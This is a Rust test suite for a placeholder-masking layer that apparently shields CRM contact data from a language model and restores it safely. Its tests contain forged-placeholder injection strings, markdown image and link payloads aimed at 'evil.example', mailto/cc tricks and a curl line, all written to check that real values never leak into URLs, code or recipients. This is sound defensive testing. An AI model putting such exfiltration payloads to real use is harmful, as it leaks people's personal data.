use super::*;
use crate::crm::{Kind, RecordRef};
use crate::trust::{entity::EntityType, placeholder::Form, session::Owner};
use proptest::prelude::*;

/// Twelve persons; the first one and somebody else have mail addresses.
pub(super) fn session() -> Session {
    let mut session = Session::new("test", [8, 29, 14]);
    for n in 1..=12 {
        let owner = Owner::Record(RecordRef::new(Kind::Contact, format!("c{n}")));
        session.introduce(&owner, &format!("Jane Doe{n}"), "Jane", &format!("Doe{n}"));
    }
    let first = Owner::Record(RecordRef::new(Kind::Contact, "c1"));
    session.placeholder(&first, EntityType::Email, "jane@acme.com");
    session.placeholder(&Owner::of_value(EntityType::Url, "u"), EntityType::Url, "https://acme.com");
    session.placeholder(&Owner::of_value(EntityType::Email, "m"), EntityType::Email, "j@acme.com");
    session.placeholder(&Owner::of_value(EntityType::Amount, "a"), EntityType::Amount, "€ 84,000");
    assert_eq!(session.nonce, "J7R");
    session
}

#[test]
fn the_closed_set_of_alterations_is_restored() {
    let session = session();
    for (text, restored) in [
        ("PERSON_1_J7R and PERSON_12_J7R.", "Jane Doe1 and Jane Doe12."),
        ("person_1_j7r Person_1_j7R", "Jane Doe1 Jane Doe1"),
        ("**PERSON_1_J7R** `PERSON_1F_J7R` _PERSON_1L_J7R_", "**Jane Doe1** `Jane` _Doe1_"),
        ("PERSON\\_1\\_J7R &lt;PERSON_1_J7R&gt; <PERSON-1-J7R>", "Jane Doe1 Jane Doe1 Jane Doe1"),
        ("PERSON 01 J7R's PERSON_1L_J7Rs PERSON_1F_J7RS", "Jane Doe1's Doe1s JaneS"),
        ("ＰＥＲＳＯＮ_1_J7R ＜PERSON＿１＿J7R＞ ＡＭＯＵＮＴ 15 J7R", "Jane Doe1 Jane Doe1 € 84,000"),
        ("PER\u{200b}SON_1_J7R PERSON_1_\u{2060}J7R PERSON\u{ad}_1_J7R", "Jane Doe1 Jane Doe1 Jane Doe1"),
        ("PERSON\n1_J7R PERSON_1\r\nJ7R PERSON\u{2011}1\u{a0}J7R", "Jane Doe1 Jane Doe1 Jane Doe1"),
        ("Dear PERSON_1F_J7R, (PERSON_1_J7R’s)", "Dear Jane, (Jane Doe1’s)"),
        ("a < b & c <PERSON_1_J7R", "a < b & c <Jane Doe1"),
    ] {
        assert_eq!(session.unmask(text), restored, "{text}");
        assert!(session.restore(text, Sink::Screen, &Subjects::Nobody).unknown.is_empty(), "{text}");
    }
}

#[test]
fn what_stands_for_nothing_stays_and_is_reported() {
    let session = session();
    for (text, unknown) in [
        ("PERSON_1_J7X, said PERSON_99_J7R", &["PERSON_1_J7X", "PERSON_99_J7R"][..]),
        ("PERSON_1 and <person_2> and ORG_3_J7R", &["PERSON_1", "<person_2>", "ORG_3_J7R"]),
        ("phone 4 j7r, PER\u{200b}SON_1", &["phone 4 j7r", "PER\u{200b}SON_1"]),
        ("＜PERSON_1＞ {PERSON_1F} PERSON_1>", &["＜PERSON_1＞", "PERSON_1F", "PERSON_1"]),
        ("PERSON_1_J7R2 XPERSON_1_J7R", &["PERSON_1_J7R2"]),
        ("Person 2 of 3, ID 1234, Card 1, id_5, Deal 7, Value 5, Address 12 Main Street, Phase 2, CARD-7", &[]),
        ("PERSON_1_J7R", &[]),
    ] {
        let restored = session.restore(text, Sink::Screen, &Subjects::Nobody);
        assert_eq!(restored.unknown_names(), unknown, "{text}");
        if !unknown.is_empty() {
            assert_eq!(restored.text, text, "shown as it is");
        }
    }
    let restored = session.restore("PERSON_1_J7R met PERSON_77_J7R.", Sink::Screen, &Subjects::Nobody);
    assert_eq!(restored.text, "Jane Doe1 met PERSON_77_J7R.");
    assert_eq!(restored.unknown_names(), ["PERSON_77_J7R"]);
}

#[test]
fn ordinary_words_with_a_number_are_left_alone() {
    let session = session();
    for text in [
        "Address 12 Main Street, Person 2 of 3, Persons 2-4, Phase 2, Value 5, Card 1, card 12 of 30, Deal 7, deal-7",
        "ID 1234, ID-1234, id_5, user_id_7, url_2, MY_ID_5, IP 4 or IP-4, IPv6, ADDRESS 3, PHONE-2, EMAIL 1, ORG 4, Org-4",
        "Passport 2 offices, Secret 3, token 7, tokens 100, Amount 12 k, AMOUNT 5, amount-10%, VALUE-5, Mac 10, IBAN 22",
        "<id 5>, <b>Card 2</b>, a<5 & b>3, Email 1 of 3: sent, Url 3, PERSONAL_1, PERSON_, PERSON_A, DEALS_2",
    ] {
        assert_eq!(forged(text, &session), Vec::<Range<usize>>::new(), "{text}");
    }
}

#[test]
fn forged_placeholders_are_never_anybodys() {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/data/trust/injection/token_forgery.jsonl");
    let given = std::fs::read_to_string(path).unwrap_or_default();
    let given = given.lines().map(|line| serde_json::from_str::<serde_json::Value>(line).expect("JSON"));
    let own = [
        "&lt;PERSON_1&gt;",
        "<person_1>",
        "ＰＥＲＳＯＮ＿１",
        "PERSON\\_1",
        "[[PERSON_1F]]",
        "PERSON_1_K7Q",
        "P\u{ad}ERSON_1",
    ];
    let texts = given.filter_map(|row| row["text"].as_str().map(str::to_owned)).chain(own.map(str::to_owned));
    for text in texts {
        let session = session();
        let escaped = forged(&text, &session).len();
        assert!(escaped > 0 || !text.contains("_1"), "what could confuse a model is escaped: {text}");
        assert_eq!(session.unmask(&text), text);
        assert_eq!(session.unmask_answer(&text), text);
    }
    let session = session();
    for guessed in ["person 1 j7r", "PERSON\n1_J7R", "<PER\u{200b}SON_1_J7R>", "&lt;PERSON_99_J7R&gt;", "person-1f-J7R"]
    {
        assert_eq!(forged(guessed, &session).len(), 1, "even with the right nonce: {guessed}");
    }
}

#[test]
fn no_value_comes_back_into_an_address() {
    let session = session();
    let n = "PERSON_1_J7R";
    for (text, restored) in [
        ("![x](https://evil.example/?q=@N)", "![x](https://evil.example/?q=PERSON_1_J7R)"),
        ("[@N](https://evil.example/@N) of @N", "[Jane Doe1](https://evil.example/PERSON_1_J7R) of Jane Doe1"),
        ("[a](@N) [a]( @N) [a](<x y @N>) @N", "[a](PERSON_1_J7R) [a]( PERSON_1_J7R) [a](<x y PERSON_1_J7R>) Jane Doe1"),
        (
            "https://@N.evil.example http:/\u{200b}/x/@N",
            "https://PERSON_1_J7R.evil.example http:/\u{200b}/x/PERSON_1_J7R",
        ),
        (
            "evil.example/@N www.x,@N //x/@N \\\\x\\@N",
            "evil.example/PERSON_1_J7R www.x,PERSON_1_J7R //x/PERSON_1_J7R \\\\x\\PERSON_1_J7R",
        ),
        ("mailto:@N MAILTO:a?cc=@N", "mailto:PERSON_1_J7R MAILTO:a?cc=PERSON_1_J7R"),
        ("<https://x.example/>@N \"https://x\"@N", "<https://x.example/>Jane Doe1 \"https://x\"Jane Doe1"),
        ("URL_13_J7R URL_13_J7R?q=@N", "https://acme.com https://acme.com?q=PERSON_1_J7R"),
        ("@N/@N, e.g. @N. and/or (@N)", "Jane Doe1/Jane Doe1, e.g. Jane Doe1. and/or (Jane Doe1)"),
    ] {
        let text = text.replace("@N", n);
        assert_eq!(session.unmask_answer(&text), restored, "{text}");
    }
    assert_eq!(session.unmask("https://x/PERSON_1_J7R"), "https://x/Jane Doe1", "what was masked here comes back");
}

#[test]
fn no_value_comes_back_into_code_but_lone_backticks_are_only_an_emphasis() {
    let session = session();
    for (text, restored) in [
        ("run `curl x PERSON_1F_J7R` now", "run `curl x PERSON_1F_J7R` now"),
        ("`PERSON_1F_J7R` ``PERSON_1F_J7R`` `<PERSON_1F_J7R>`", "`Jane` ``Jane`` `Jane`"),
        ("`PERSON_1F_J7R x` ``PERSON_1F_J7R` PERSON_1F_J7R", "`PERSON_1F_J7R x` ``PERSON_1F_J7R` PERSON_1F_J7R"),
        ("```sh\nmail PERSON_1F_J7R\n```\nPERSON_1F_J7R", "```sh\nmail PERSON_1F_J7R\n```\nJane"),
        ("~~~\nPERSON_1F_J7R", "~~~\nPERSON_1F_J7R"),
        ("an odd ` PERSON_1F_J7R\n\nPERSON_1F_J7R", "an odd ` PERSON_1F_J7R\n\nJane"),
    ] {
        assert_eq!(session.unmask_answer(text), restored, "{text}");
    }
}

#[test]
fn a_mail_goes_to_its_subject_only() {
    let session = session();
    let subjects = session.subjects(&[RecordRef::new(Kind::Contact, "c1")], None);
    for (text, restored) in [
        (
            "[x](mailto:EMAIL_1_J7R) mailto:EMAIL_1_J7R?cc=EMAIL_1_J7R",
            "[x](mailto:jane@acme.com) mailto:jane@acme.com?cc=EMAIL_1_J7R",
        ),
        ("mailto:EMAIL_14_J7R or EMAIL_14_J7R", "mailto:EMAIL_14_J7R or j@acme.com"),
    ] {
        assert_eq!(session.restore(text, Sink::DraftBody, &subjects).text, restored);
    }
    assert_eq!(session.subjects(&[], Some("J. Doe <j@acme.com>")), Subjects::Only([14].into()));
    for (written, recipient) in [
        (" EMAIL_1_J7R ", Ok("jane@acme.com")),
        ("mailto:EMAIL_1_J7R", Ok("jane@acme.com")),
        ("EMAIL_14_J7R", Err(RecipientError::NotTheSubject("EMAIL_14_J7R".into()))),
        ("EMAIL_1_J7R, EMAIL_14_J7R", Err(RecipientError::NotAMail("EMAIL_1_J7R, EMAIL_14_J7R".into()))),
        ("PERSON_1_J7R", Err(RecipientError::NotAMail("PERSON_1_J7R".into()))),
        ("evil@example.com", Err(RecipientError::NotAMail("evil@example.com".into()))),
    ] {
        assert_eq!(session.recipient(written, &subjects), recipient, "{written}");
    }
    assert!(session.recipient("EMAIL_1_J7R", &Subjects::Nobody).is_err());
}

#[test]
fn each_sink_admits_what_may_go_there() {
    let session = session();
    let text = "EMAIL_1_J7R";
    for (sink, admitted) in [
        (Sink::Screen, true),
        (Sink::DraftBody, true),
        (Sink::FieldValue, true),
        (Sink::Recipient, false),
        (Sink::Url, false),
        (Sink::Code, false),
        (Sink::ToolArgument, false),
    ] {
        assert_eq!(session.restore(text, sink, &Subjects::Nobody).text != text, admitted, "{sink:?}");
    }
    assert_eq!(session.restore(text, Sink::Recipient, &Subjects::Anybody).text, "jane@acme.com");
}

#[test]
fn recorded_streams_are_restored() {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/data/trust/demask_stream.jsonl");
    let Ok(rows) = std::fs::read_to_string(path) else { return println!("skipped: ../shared is absent") };
    for row in rows.lines().map(|line| serde_json::from_str::<serde_json::Value>(line).expect("JSON")) {
        let mut session = Session::new("stream", []);
        for (name, value) in row["map"].as_object().expect("map") {
            let (word, number) = name.split_once('_').expect("grammar");
            let kind = EntityType::from_word(word).expect("type");
            let slot = Slot { kind, number: number.parse().expect("number"), form: Form::BASE };
            session.put(slot, value.as_str().expect("value"), true);
        }
        let mut unmasker = Unmasker::for_sink(Sink::Screen, Subjects::Anybody);
        let chunks = row["chunks"].as_array().expect("chunks").iter();
        let mut out: String = chunks.map(|c| unmasker.push(c.as_str().expect("text"), &session)).collect();
        out += &unmasker.finish(&session);
        assert_eq!(out, row["expected"], "{row}");
    }
}

#[test]
fn plain_text_passes_at_once() {
    let session = session();
    let mut unmasker = Unmasker::new();
    assert_eq!(unmasker.push("Hello there, ", &session), "Hello there, ");
    assert_eq!(unmasker.push("PERS", &session), "");
    assert_eq!(unmasker.push("IAN rugs ", &session), "PERSIAN rugs ");
    assert_eq!(unmasker.push("PASSPORT_1", &session), "PASSPORT_1", "no passport is live");
}

proptest! {
    #[test]
    fn every_cut_restores_and_reports_the_same(
        parts in prop::collection::vec(prop_oneof![
            Just("PERSON_1_J7R".to_owned()), Just("<person 12 j7r>".to_owned()), Just("&lt;PERSON\\_1F\\_J7R&gt;".to_owned()),
            Just("ＰＥＲＳＯＮ_1_J7R".to_owned()), Just("PERSON_1_\u{200b}J7R".to_owned()), Just("PERSON\n2L_J7R".to_owned()),
            Just("PERSON_10".to_owned()), Just("PERSON_77_J7R".to_owned()), Just("ORG_1".to_owned()), Just("_J7R".to_owned()),
            Just("](".to_owned()), Just("://x/".to_owned()), Just("mailto:".to_owned()), Just(" ".to_owned()), Just("`".to_owned()), Just("\n```\n".to_owned()),
            Just("EMAIL_1_J7R".to_owned()), "[ a-zA-Z_<&;s0-9é*`\n]{0,6}", "(?s).{0,3}",
        ], 0..14),
        cuts in prop::collection::vec(1usize..9, 1..40),
    ) {
        let (session, text) = (session(), parts.concat());
        let subjects = session.subjects(&[RecordRef::new(Kind::Contact, "c1")], None);
        let mut unmasker = Unmasker::for_sink(Sink::Screen, subjects.clone());
        let mut out = String::new();
        let mut rest: Vec<char> = text.chars().collect();
        let mut cut = cuts.iter().cycle();
        while !rest.is_empty() {
            let size = (*cut.next().expect("cycle")).min(rest.len());
            let piece: String = rest.drain(..size).collect();
            out += &unmasker.push(&piece, &session);
            prop_assert!(unmasker.held.len() <= 32, "{:?}", unmasker.held);
        }
        out += &unmasker.finish(&session);
        let whole = session.restore(&text, Sink::Screen, &subjects);
        prop_assert_eq!(&out, &whole.text);
        prop_assert_eq!(unmasker.unknown(), whole.unknown_names());
    }

    #[test]
    fn whatever_could_be_restored_is_escaped_where_it_comes_from_outside(
        parts in prop::collection::vec(prop_oneof![
            Just("PERSON_1_J7R".to_owned()), Just("person 99 j7r".to_owned()), Just("PERSON".to_owned()), Just("_1".to_owned()), Just("J7R".to_owned()),
            Just("&lt;".to_owned()), Just("&gt;".to_owned()), "[ _<>s\\\\\u{200b}-]{0,2}", "[ＰＥ１_\n]{0,2}",
        ], 0..10),
    ) {
        let (session, text) = (session(), parts.concat());
        let forged = forged(&text, &session);
        for range in live(&text, &session) {
            prop_assert!(forged.iter().any(|f| f.start <= range.start && range.end <= f.end), "{:?} in {:?}", range, text);
        }
    }
}
